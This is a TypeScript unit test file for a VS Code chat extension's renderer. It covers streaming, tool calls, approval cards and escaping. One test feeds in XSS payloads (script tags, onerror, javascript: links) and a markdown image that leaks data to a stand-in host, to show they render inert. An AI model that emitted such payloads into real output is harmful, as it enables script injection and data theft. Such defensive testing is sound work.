/**
 * Unit tests of src/render.ts: the reducer over `tandem/event` notifications and approvals, the
 * context label, and the HTML of the chat log — above all that nothing from the model or a tool
 * renders as live markup.
 */

import { test } from "node:test";
import assert from "node:assert/strict";
import {
  addApproval,
  applyEvent,
  contextLabel,
  emptyChat,
  removeApproval,
  renderChat,
  renderMarkdown,
  shortContextLabel,
  type ChatState,
} from "../src/render";
import type { ApprovalParams, TandemEvent, ToolCallEvent } from "../src/protocol";

const SESSION = "20261123-231045-a1b2";

function feed(state: ChatState, turnId: string, ...events: TandemEvent[]): void {
  for (const event of events) {
    applyEvent(state, { sessionId: SESSION, turnId, event });
  }
}

function tool(callId: string, status: ToolCallEvent["status"], extra: Partial<ToolCallEvent> = {}): ToolCallEvent {
  return { type: "toolCall", callId, tool: "edit", title: `Edit ${callId}.py`, kind: "edit", status, ...extra };
}

test("a streamed answer accumulates and the turn runs until it finishes", () => {
  const state = emptyChat(SESSION);
  feed(state, "t1", { type: "turnStarted", text: "Why?" });
  assert.equal(state.running, true);
  feed(state, "t1", { type: "textChunk", text: "Because " }, { type: "textChunk", text: "**reasons**." });
  feed(state, "t1", { type: "thoughtChunk", text: "Hmm" }, { type: "thoughtChunk", text: "…" });
  assert.equal(state.turns[0].text, "Because **reasons**.");
  assert.equal(state.turns[0].thoughts, "Hmm…");
  assert.equal(state.turns[0].prompt, "Why?");
  feed(state, "t1", { type: "turnFinished", stopReason: "end_turn" });
  assert.equal(state.running, false);
  const html = renderChat(state);
  assert.match(html, /<section class="turn" data-turn-id="t1" data-replay="false">/);
  assert.match(html, /<div class="answer"><p>Because <strong>reasons<\/strong>\.<\/p>\n<\/div>/);
  assert.match(html, /<details class="thoughts"><summary>Thoughts<\/summary><p>Hmm…<\/p>\n<\/details>/);
});

const usage: TandemEvent = {
  type: "usage",
  inputTokens: 10,
  outputTokens: 5,
  cachedInputTokens: 0,
  cacheWriteTokens: 0,
  thoughtTokens: 0,
  contextTokens: 15,
  contextWindow: 1000,
};

test("answers of successive model requests are separate paragraphs", () => {
  const state = emptyChat(SESSION);
  feed(state, "t1", { type: "turnStarted", text: "Go" }, { type: "textChunk", text: "I'll add one:" }, usage);
  feed(state, "t1", { type: "textChunk", text: "Done" }, { type: "textChunk", text: "." }, usage);
  assert.equal(state.turns[0].text, "I'll add one:\n\nDone.");
});

test("retrying clears only what the failed request streamed", () => {
  const state = emptyChat(SESSION);
  feed(state, "t1", { type: "turnStarted", text: "Go" }, { type: "textChunk", text: "First." }, usage);
  feed(state, "t1", { type: "textChunk", text: "half an ans" }, { type: "thoughtChunk", text: "x" });
  feed(state, "t1", { type: "retrying", attempt: 1, delayMs: 1000, error: "overloaded" });
  assert.equal(state.turns[0].text, "First.");
  assert.equal(state.turns[0].thoughts, "");
  feed(state, "t1", { type: "textChunk", text: "Second." });
  assert.equal(state.turns[0].text, "First.\n\nSecond.");
});

test("retrying clears the turn's text and thoughts and adds a note", () => {
  const state = emptyChat(SESSION);
  feed(state, "t1", { type: "turnStarted", text: "Go" }, { type: "textChunk", text: "half an ans" }, { type: "thoughtChunk", text: "x" });
  feed(state, "t1", { type: "retrying", attempt: 1, delayMs: 1500, error: "rate limited (HTTP 429)" });
  assert.equal(state.turns[0].text, "");
  assert.equal(state.turns[0].thoughts, "");
  assert.deepEqual(state.turns[0].notes, ["The model request failed (rate limited (HTTP 429)); retrying in 1.5s (attempt 1)."]);
  const html = renderChat(state);
  assert.doesNotMatch(html, /class="thoughts"/);
  assert.match(html, /<div class="note">The model request failed/);
});

test("tool calls are upserted in first-seen order with their latest status", () => {
  const state = emptyChat(SESSION);
  feed(state, "t1", { type: "turnStarted", text: "Fix" }, tool("a", "validating"), tool("b", "executing"));
  feed(
    state,
    "t1",
    tool("a", "success", {
      locations: [{ path: "/w/calc.py", uri: "file:///w/calc.py", line: 14 }],
      diff: { path: "/w/calc.py", uri: "file:///w/calc.py", oldText: "x", newText: "y" },
    }),
    tool("b", "error"),
  );
  assert.deepEqual(state.turns[0].tools.map((t) => [t.callId, t.status]), [["a", "success"], ["b", "error"]]);
  const html = renderChat(state);
  assert.ok(html.includes(
    `<li class="tool" data-call-id="a" data-status="success" data-kind="edit"><span class="tool-status codicon codicon-check" title="success" aria-label="success"></span> ` +
      `<span class="tool-title">Edit a.py</span> <button data-action="open" data-uri="file:///w/calc.py" data-line="14">Open</button>` +
      ` <button data-action="diff" data-call-id="a">Diff</button></li>`,
  ));
  assert.ok(html.includes(
    `<li class="tool" data-call-id="b" data-status="error" data-kind="edit"><span class="tool-status codicon codicon-error" title="error" aria-label="error"></span> ` +
      `<span class="tool-title">Edit b.py</span></li>`,
  ));
  assert.ok(html.indexOf('data-call-id="a"') < html.indexOf('data-call-id="b"'));
});

test("the plan renders as a checklist and a new plan replaces the old", () => {
  const state = emptyChat(SESSION);
  feed(state, "t1", { type: "turnStarted", text: "Plan" }, { type: "plan", todos: [{ description: "old", status: "pending" }] });
  feed(state, "t1", {
    type: "plan",
    todos: [
      { description: "Reproduce <it>", status: "completed" },
      { description: "Guard", status: "in_progress" },
    ],
  });
  const html = renderChat(state);
  assert.ok(html.includes(
    `<ul class="plan"><li data-status="completed"><input type="checkbox" disabled checked> Reproduce &lt;it&gt;</li>` +
      `<li data-status="in_progress"><input type="checkbox" disabled> Guard</li></ul>`,
  ));
  assert.doesNotMatch(html, /old/);
});

test("events of an unseen turn create it; turnStarted again resets it; other sessions are ignored", () => {
  const state = emptyChat(SESSION);
  applyEvent(state, { sessionId: SESSION, turnId: "t1", replay: true, event: { type: "textChunk", text: "replayed" } });
  assert.deepEqual([state.turns[0].prompt, state.turns[0].replay, state.running], ["", true, true]);
  feed(state, "t1", { type: "turnStarted", text: "again" }, { type: "textChunk", text: "live" });
  assert.equal(state.turns.length, 1);
  assert.deepEqual([state.turns[0].prompt, state.turns[0].text, state.turns[0].replay], ["again", "live", false]);
  applyEvent(state, { sessionId: "other", turnId: "t9", event: { type: "turnStarted", text: "x" } });
  assert.equal(state.turns.length, 1);
  const adopting = emptyChat();
  feed(adopting, "t1", { type: "turnStarted", text: "x" });
  assert.equal(adopting.sessionId, SESSION);
});

test("compression and restored events add notes", () => {
  const state = emptyChat(SESSION);
  feed(
    state,
    "t2",
    { type: "compression", status: "compressed", tokensBefore: 48210, tokensAfter: 6120 },
    { type: "compression", status: "failed", tokensBefore: 1, tokensAfter: 1, message: "no model" },
    { type: "restored", turnId: "t1", restored: ["/w/a.rs"], skipped: [{ path: "/w/b.rs", reason: "changed since" }] },
    { type: "restored", restored: [], skipped: [] },
  );
  assert.deepEqual(state.turns[0].notes, [
    "Compressed the conversation from 48,210 to 6,120 tokens.",
    "Compression failed: no model.",
    "Restored 1 file: /w/a.rs. Left alone: /w/b.rs (changed since).",
    "Nothing to restore.",
  ]);
});

test("contextLabel", () => {
  const state = emptyChat(SESSION);
  assert.equal(contextLabel(state), "");
  feed(state, "t1", {
    type: "usage",
    inputTokens: 5120,
    outputTokens: 230,
    cachedInputTokens: 4096,
    cacheWriteTokens: 0,
    thoughtTokens: 64,
    contextTokens: 5350,
    contextWindow: 200000,
  });
  assert.equal(contextLabel(state), "Context 3% · 5,350 / 200,000 tokens");
  const cases: [number, number | undefined, string][] = [
    [0, 1000, "Context 0% · 0 / 1,000 tokens"],
    [1234567, 2000000, "Context 62% · 1,234,567 / 2,000,000 tokens"],
    [999, 0, "Context 999 tokens"],
    [999, undefined, "Context 999 tokens"],
  ];
  for (const [contextTokens, contextWindow, label] of cases) {
    assert.equal(contextLabel({ ...emptyChat(), contextTokens, contextWindow }), label);
  }
});

test("turn end: hidden after a plain end_turn, visible otherwise", () => {
  const cases: [TandemEvent & { type: "turnFinished" }, string][] = [
    [{ type: "turnFinished", stopReason: "end_turn" }, `<div class="turn-end" data-stop-reason="end_turn" hidden></div>`],
    [
      { type: "turnFinished", stopReason: "end_turn", message: "the editor refused <the edit>" },
      `<div class="turn-end" data-stop-reason="end_turn">Finished: the editor refused &lt;the edit&gt;</div>`,
    ],
    [{ type: "turnFinished", stopReason: "cancelled" }, `<div class="turn-end" data-stop-reason="cancelled">Cancelled</div>`],
    [
      { type: "turnFinished", stopReason: "error", message: "the model request failed" },
      `<div class="turn-end" data-stop-reason="error">Failed: the model request failed</div>`,
    ],
    [
      { type: "turnFinished", stopReason: "max_turns" },
      `<div class="turn-end" data-stop-reason="max_turns">Stopped: the turn used the most model requests allowed</div>`,
    ],
    [
      { type: "turnFinished", stopReason: "loop_detected" },
      `<div class="turn-end" data-stop-reason="loop_detected">Stopped: the model repeated itself</div>`,
    ],
    [
      { type: "turnFinished", stopReason: "response_limit" },
      `<div class="turn-end" data-stop-reason="response_limit">Stopped: the response was too long</div>`,
    ],
  ];
  for (const [event, expected] of cases) {
    const state = emptyChat(SESSION);
    feed(state, "t1", { type: "turnStarted", text: "x" });
    assert.doesNotMatch(renderChat(state), /turn-end/);
    feed(state, "t1", event);
    assert.ok(renderChat(state).includes(expected), `${event.stopReason}: ${renderChat(state)}`);
  }
});

/**
 * Every tag and attribute in `html` is one the renderer itself writes. Text from the model is
 * escaped, so any literal "<" is markup; an `onerror=` left in escaped text is harmless.
 */
function assertOnlyOwnMarkup(html: string): void {
  const tags = new Set(["section", "div", "details", "summary", "ul", "li", "span", "button", "p", "a", "code", "pre", "strong", "em", "input", "textarea", "h2"]);
  const attributes = new Set(["class", "data-turn-id", "data-replay", "data-call-id", "data-status", "data-kind", "title", "data-action", "data-uri", "data-line", "href", "data-stop-reason", "hidden", "aria-label"]);
  for (const [, tag, attrs] of html.matchAll(/<\/?([a-zA-Z][\w-]*)([^>]*)>/g)) {
    assert.ok(tags.has(tag), `tag <${tag}> in ${html}`);
    for (const [, name] of attrs.matchAll(/\s([^\s=]+)(?:="[^"]*")?/g)) {
      assert.ok(attributes.has(name), `attribute ${name} on <${tag}> in ${html}`);
    }
  }
  assert.doesNotMatch(html, /href="(?!https?:|mailto:|file:)/i);
}

test("what the model writes renders inert", () => {
  const hostile = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[y](JAVASCRIPT:alert(1))",
    "[z](data:text/html,<b>hi</b>)",
    "[c](command:workbench.action.quit)",
    "![pixel](https://evil.example/leak?d=secret)",
    "<a href=\"javascript:alert(1)\">a</a>",
    "`<b>code</b>`",
    "```html\n<script>bad()</script>\n```",
  ].join("\n\n");
  const state = emptyChat(SESSION);
  feed(state, "t1", { type: "turnStarted", text: "<b onclick=x>hi</b>" });
  feed(state, "t1", { type: "textChunk", text: hostile }, { type: "thoughtChunk", text: hostile });
  feed(state, "t1", tool("<x>", "success", { title: `"><script>t()</script>`, locations: [{ path: "/p", uri: `file:///a"b<c` }] }));
  const html = renderChat(state);
  assertOnlyOwnMarkup(html);
  // The image is not fetched: it shows as "!" and a plain link, the only link that survives
  // (once in the thoughts, once in the answer).
  const link = `<a href="https://evil.example/leak?d=secret">`;
  assert.deepEqual(html.match(/<a [^>]*>/g), [link, link]);
  assert.match(html, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/);
  assert.match(html, /&lt;img src=x onerror=alert\(1\)&gt;/);
  assert.match(html, /\[x\]\(javascript:alert\(1\)\)/);
  assert.match(html, /<div class="prompt">&lt;b onclick=x&gt;hi&lt;\/b&gt;<\/div>/);
  assert.match(html, /data-call-id="&lt;x&gt;"/);
  assert.match(html, /data-uri="file:\/\/\/a&quot;b&lt;c"/);
});

test("markdown keeps safe links without a target and linkifies bare URLs", () => {
  const cases: [string, string][] = [
    ["[docs](https://example.com/a)", `<a href="https://example.com/a">docs</a>`],
    ["see http://example.com", `<a href="http://example.com">http://example.com</a>`],
    ["[mail](mailto:a@b.c)", `<a href="mailto:a@b.c">mail</a>`],
    ["[f](file:///w/a.py)", `<a href="file:///w/a.py">f</a>`],
  ];
  for (const [input, expected] of cases) {
    assert.ok(renderMarkdown(input).includes(expected), `${input}: ${renderMarkdown(input)}`);
  }
  assert.equal(renderMarkdown("[rel](src/a.py)"), "<p>[rel](src/a.py)</p>\n");
  assert.equal(renderMarkdown("\"quotes\" -- (c)"), "<p>&quot;quotes&quot; -- (c)</p>\n");
});

function approval(extra: Partial<ToolCallEvent> = {}): ApprovalParams {
  return {
    sessionId: SESSION,
    turnId: "t1",
    toolCall: {
      type: "toolCall",
      callId: "call_8",
      tool: "shell",
      title: "Run `cargo test …`",
      kind: "execute",
      status: "awaitingApproval",
      rawInput: { command: "cargo test -p parser\ngit status" },
      details: "Run this command with `bash -c` in the workspace root:\n    cargo test -p parser\n    git status <&1",
      ...extra,
    },
    options: [
      { kind: "reject", name: "Reject" },
      { kind: "rejectWithFeedback", name: "Reject and tell Tandem why…" },
      { kind: "allowOnce", name: "Allow once" },
      { kind: "allowAlways", name: "Allow always" },
    ],
  };
}

test("an approval card offers every option in order, after the full details", () => {
  const state = emptyChat(SESSION);
  feed(state, "t1", { type: "turnStarted", text: "Test it" });
  addApproval(state, 90, approval({ approvalReason: "it writes a protected path (.git/)" }));
  const html = renderChat(state);
  assert.ok(html.indexOf("</section>") < html.indexOf(`<div class="approval"`), "approvals come after the turns");
  assert.ok(html.includes(
    `<div class="approval" data-request-id="90"><div class="approval-title">Tandem wants to: Run \`cargo test …\`</div>` +
      `<div class="approval-reason">it writes a protected path (.git/)</div>` +
      `<pre class="approval-details">Run this command with \`bash -c\` in the workspace root:\n    cargo test -p parser\n    git status &lt;&amp;1</pre>` +
      `<textarea class="approval-feedback" placeholder="Tell Tandem why (optional)"></textarea><div class="approval-actions">` +
      `<button data-decision="reject" data-request-id="90">Reject</button>` +
      `<button data-decision="rejectWithFeedback" data-request-id="90">Reject and tell Tandem why…</button>` +
      `<button data-decision="allowOnce" data-request-id="90">Allow once</button>` +
      `<button data-decision="allowAlways" data-request-id="90">Allow always</button>` +
      `<button data-decision="rejectAlways" data-request-id="90">Reject always</button></div></div>`,
  ), html);
  assert.doesNotMatch(html, /approval-diff/);
});

test("an approval shows a diff button only with a diff, and rawInput when details are missing", () => {
  const state = emptyChat(SESSION);
  addApproval(state, 7, approval({
    details: undefined,
    rawInput: { path: "a.py", content: "<x>" },
    diff: { path: "/w/a.py", uri: "file:///w/a.py", oldText: null, newText: "<x>" },
  }));
  const html = renderChat(state);
  assert.ok(html.includes(`<button data-action="approval-diff" data-request-id="7">Show diff</button>`));
  assert.ok(html.includes(
    `<pre class="approval-details">{\n  &quot;path&quot;: &quot;a.py&quot;,\n  &quot;content&quot;: &quot;&lt;x&gt;&quot;\n}</pre>`,
  ));
  assert.match(html, /data-decision="allowOnce"/);
  assert.doesNotMatch(html, /approval-reason/);

  // With nothing to show, only the rejections are offered.
  const blind = emptyChat(SESSION);
  addApproval(blind, 8, approval({ details: undefined, rawInput: undefined }));
  const blindHtml = renderChat(blind);
  assert.doesNotMatch(blindHtml, /allowOnce|allowAlways/);
  assert.match(blindHtml, /data-decision="reject".*data-decision="rejectWithFeedback".*data-decision="rejectAlways"/s);
});

test("approvals are added once and removed by request id", () => {
  const state = emptyChat(SESSION);
  addApproval(state, 1, approval());
  addApproval(state, 2, approval());
  addApproval(state, 1, approval());
  assert.deepEqual(state.approvals.map((a) => a.requestId), [2, 1]);
  removeApproval(state, 2);
  assert.deepEqual(state.approvals.map((a) => a.requestId), [1]);
  removeApproval(state, 1);
  assert.doesNotMatch(renderChat(state), /approval/);
});

test("an empty chat shows a hint; the title and notice are escaped", () => {
  assert.match(renderChat(emptyChat()), /<div class="empty">/);
  const state: ChatState = { ...emptyChat(SESSION, "Fix <parse>"), notice: "Server <down>" };
  const html = renderChat(state);
  assert.match(html, /<h2 class="session-title">Fix &lt;parse&gt;<\/h2>/);
  assert.match(html, /<div class="notice">Server &lt;down&gt;<\/div>/);
});

test("a subagent's calls are listed under its parent call, and its text stays inside", () => {
  const state = emptyChat(SESSION);
  const parent: ToolCallEvent = { type: "toolCall", callId: "p1", tool: "subagent", title: "Investigate <parser>", kind: "think", status: "executing" };
  const child = (status: ToolCallEvent["status"]): TandemEvent => ({
    type: "subagent",
    parentCallId: "p1",
    agent: "codebase_investigator",
    event: { type: "toolCall", callId: "c1", tool: "read_file", title: "Read src/<a>.rs", kind: "read", status },
  });
  feed(state, "t1", { type: "turnStarted", text: "Where is it parsed?" }, parent, child("executing"));
  feed(state, "t1", { type: "subagent", parentCallId: "p1", agent: "codebase_investigator", event: { type: "textChunk", text: "child text" } });
  feed(state, "t1", child("success"), { ...parent, status: "success" });
  assert.equal(state.turns[0].tools.length, 1);
  assert.equal(state.turns[0].text, "");
  const html = renderChat(state);
  assert.match(
    html,
    /<li class="tool" data-call-id="p1" data-status="success"[^>]*>.*Investigate &lt;parser&gt;<\/span><ul class="tools subagent-tools"><li class="tool" data-call-id="c1" data-status="success" data-kind="read">.*Read src\/&lt;a&gt;\.rs<\/span><\/li><\/ul><\/li>/,
  );
  assert.doesNotMatch(html, /child text/);
});

test("hook runs that decided something or said something become notes", () => {
  const state = emptyChat(SESSION);
  const run = (outcome: "continued" | "denied", message?: string): TandemEvent => ({
    type: "hook",
    event: "PreToolUse",
    command: "./protect.sh <x>",
    durationMs: 12,
    exitCode: 0,
    outcome,
    ...(message === undefined ? {} : { message }),
  });
  feed(state, "t1", { type: "turnStarted", text: "q" }, run("continued"), run("denied", "lockfiles are generated"), run("continued", "fine"));
  assert.deepEqual(state.turns[0].notes, [
    "Hook PreToolUse `./protect.sh <x>` denied (12 ms): lockfiles are generated",
    "Hook PreToolUse `./protect.sh <x>` continued (12 ms): fine",
  ]);
  assert.match(renderChat(state), /<div class="note">Hook PreToolUse `\.\/protect\.sh &lt;x&gt;` denied \(12 ms\): lockfiles are generated<\/div>/);
});

/** The kinds of `html`'s answer, tool and note blocks of the first turn, in document order. */
function blocks(html: string): string[] {
  return [...html.matchAll(/<div class="answer">([\s\S]*?)<\/div>|<li class="tool" data-call-id="([^"]*)"|<div class="note">([^<]*)<\/div>/g)].map(
    ([, answer, callId, note]) =>
      answer !== undefined ? `text:${answer.replace(/<[^>]+>/g, "").trim()}` : callId !== undefined ? `tool:${callId}` : `note:${note}`,
  );
}

test("the chat interleaves text and tool lines as they happened (issue 38, item 8)", () => {
  const state = emptyChat(SESSION);
  feed(state, "t1", { type: "turnStarted", text: "Fix app.py" });
  feed(state, "t1", { type: "textChunk", text: "Reading " }, { type: "textChunk", text: "app.py." });
  feed(state, "t1", tool("read", "executing", { kind: "read" }), usage, tool("read", "success", { kind: "read" }));
  feed(state, "t1", { type: "textChunk", text: "Now the edit." }, tool("edit", "success"), usage);
  feed(state, "t1", { type: "textChunk", text: "Changed `add`." }, { type: "turnFinished", stopReason: "end_turn" });
  assert.deepEqual(blocks(renderChat(state)), ["text:Reading app.py.", "tool:read", "text:Now the edit.", "tool:edit", "text:Changed add."]);
  // The whole text is still one string (what "Copy" or a search would want).
  assert.equal(state.turns[0].text, "Reading app.py.\n\nNow the edit.\n\nChanged `add`.");
});

test("consecutive tool lines share one list; notes keep their place; a turn without text keeps an empty answer", () => {
  const state = emptyChat(SESSION);
  feed(state, "t1", { type: "turnStarted", text: "x" }, tool("a", "success"), tool("b", "success"));
  feed(state, "t1", { type: "compression", status: "skipped", tokensBefore: 1, tokensAfter: 1 });
  feed(state, "t1", tool("c", "success"), { type: "turnFinished", stopReason: "end_turn" });
  const html = renderChat(state);
  assert.deepEqual(blocks(html), ["tool:a", "tool:b", "note:Nothing to compress.", "tool:c", "text:"]);
  assert.equal(html.match(/<ul class="tools">/g)?.length, 2);
});

test("retrying drops the failed request's text block but keeps earlier ones in order", () => {
  const state = emptyChat(SESSION);
  feed(state, "t1", { type: "turnStarted", text: "x" }, { type: "textChunk", text: "First." }, tool("a", "success"), usage);
  feed(state, "t1", { type: "textChunk", text: "Half" });
  feed(state, "t1", { type: "retrying", attempt: 1, delayMs: 1000, error: "overloaded" });
  feed(state, "t1", { type: "textChunk", text: "Whole answer." });
  const shown = blocks(renderChat(state));
  assert.deepEqual(shown.filter((block) => !block.startsWith("note:")), ["text:First.", "tool:a", "text:Whole answer."]);
  assert.ok(!renderChat(state).includes("Half"));
});

test("tool statuses are codicons, and the running ones spin (issue 38, item 9)", () => {
  const state = emptyChat(SESSION);
  feed(state, "t1", { type: "turnStarted", text: "x" }, tool("a", "awaitingApproval"), tool("b", "executing"), tool("c", "cancelled"));
  const html = renderChat(state);
  assert.match(html, /data-call-id="a"[^>]*><span class="tool-status codicon codicon-debug-pause"/);
  assert.match(html, /data-call-id="b"[^>]*><span class="tool-status codicon codicon-loading codicon-modifier-spin"/);
  assert.match(html, /data-call-id="c"[^>]*><span class="tool-status codicon codicon-circle-slash"/);
  // No Unicode symbol that needs an emoji font.
  assert.doesNotMatch(html, /[⏳⏸✓✗⊘]/);
});

test("shortContextLabel fits a narrow side bar; the long label is its tooltip", () => {
  const state = emptyChat(SESSION);
  assert.equal(shortContextLabel(state), "");
  state.contextTokens = 7823;
  assert.equal(shortContextLabel(state), "7.8k tokens");
  state.contextWindow = 128000;
  assert.equal(shortContextLabel(state), "Context 6%");
  assert.equal(contextLabel(state), "Context 6% · 7,823 / 128,000 tokens");
});

test("a not-set-up failure is told in VS Code's words with Open Settings, the server's under Details (issue 38, item 11)", () => {
  const state = emptyChat(SESSION);
  const server = "Tandem is not set up: nothing answers at http://localhost:11434/v1 (connection refused). … or choose a model in /home/u/.config/tandem/settings.json. Then run `tandem models` to check.";
  feed(state, "t1", { type: "turnStarted", text: "x" }, { type: "turnFinished", stopReason: "error", message: server });
  const html = renderChat(state);
  const end = html.match(/<div class="turn-end"[\s\S]*<\/div>/)?.[0] ?? "";
  assert.match(end, /data-not-set-up="true"/);
  assert.match(end, /Tandem: Model \(tandem\.model: /);
  assert.match(end, /<button data-action="open-settings">Open Settings<\/button>/);
  // The terminal's advice is kept, but only under Details.
  const [visible, details] = end.split("<details");
  assert.doesNotMatch(visible, /tandem models|settings\.json/);
  assert.match(details, /tandem models/);
});

test("an inline proposal the user discarded reads as declined, not as a changed document (issue 38, item 7)", () => {
  const state = emptyChat(SESSION);
  const server = "the inline edit was not applied (declined by the user); the document may have changed while Tandem worked — run it again";
  feed(state, "t1", { type: "turnStarted", text: "x" }, { type: "turnFinished", stopReason: "end_turn", message: server });
  const html = renderChat(state);
  assert.match(html, /<div class="turn-end" data-stop-reason="end_turn" data-declined="true">You discarded the proposed inline edit; nothing was changed\.<\/div>/);
  assert.doesNotMatch(html, /may have changed/);
  // Another refusal keeps the server's words.
  const other = emptyChat(SESSION);
  feed(other, "t1", { type: "turnStarted", text: "x" }, { type: "turnFinished", stopReason: "end_turn", message: server.replace("declined by the user", "version mismatch") });
  assert.match(renderChat(other), /Finished: the inline edit was not applied \(version mismatch\)/);
});
